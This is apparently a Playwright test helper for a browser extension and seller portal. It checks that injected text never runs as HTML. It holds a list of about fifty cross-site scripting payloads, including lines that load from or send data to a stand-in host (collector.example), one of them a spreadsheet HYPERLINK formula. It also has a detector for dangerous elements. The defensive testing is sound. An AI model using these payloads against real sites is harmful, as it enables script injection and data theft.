import type { Frame, Page } from '@playwright/test';

/** What is to show that it ran: a dialog, which no page of the extension and none of the portal opens. */
const RUN = 'alert(1)';

/** Texts that run, load or send something where they are taken for HTML, an address or a formula. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<img src=x onerror=${RUN}//>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=f>x</button><form id=f></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<style>@import "https://collector.example/x.css";</style>`,
  `<link rel=stylesheet href=https://collector.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://collector.example/">`,
  `<base href=https://collector.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<p style="background:url(https://collector.example/x)">x</p>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `--><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `{{constructor.constructor("${RUN}")()}}<img src=x onerror=${RUN}>`,
  `\u202e<img src=x onerror=${RUN}>\u2066`,
  `<img src=x:x onerror\n=\n${RUN}>`,
  `=HYPERLINK("https://collector.example/?"&A1)<img src=x onerror=${RUN}>`,
];

/** The text with the next payload behind it: the first so many characters tell who reads what it is. */
export const makeSpoiler = () => {
  let next = 0;
  return (text: string): string => {
    const payload = PAYLOADS[next % PAYLOADS.length];
    next += 1;
    return `${text} ${payload}`;
  };
};

/**
 * Of a document or an element: what in it runs, loads or sends something, as a text that was taken for HTML would. What a
 * link asks the portal for, such as an order by its id, does none of it.
 */
const FIND = `(root) => [...root.querySelectorAll('*')].filter((element) =>
  element.matches('script, iframe, object, embed, base, meta[http-equiv], style, link, form') ||
  (element.content?.querySelectorAll('*').length ?? 0) > 0 ||
  [...element.attributes].some(({ name, value }) =>
    name.startsWith('on') || (/^(src|srcset|href|xlink:href|data|action|formaction|style|poster|content)$/.test(name) && /^\\s*j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:|collector/i.test(value.replace(/(?<=^https:\\/\\/seller-us\\.tiktok\\.com\\/[^?]*\\?).*$/, ''))))
).map((element) => element.outerHTML.slice(0, 200))`;

/** What a surface shows that is more than text. */
export const dangerousIn = (surface: Page | Frame): Promise<string[]> => surface.evaluate(`(${FIND})(document.body)`);

/** What a text is once it is taken for HTML. */
export const dangerousAsHtml = (page: Page, text: string): Promise<string[]> =>
  page.evaluate(`(${FIND})(new DOMParser().parseFromString(${JSON.stringify(text)}, 'text/html'))`);
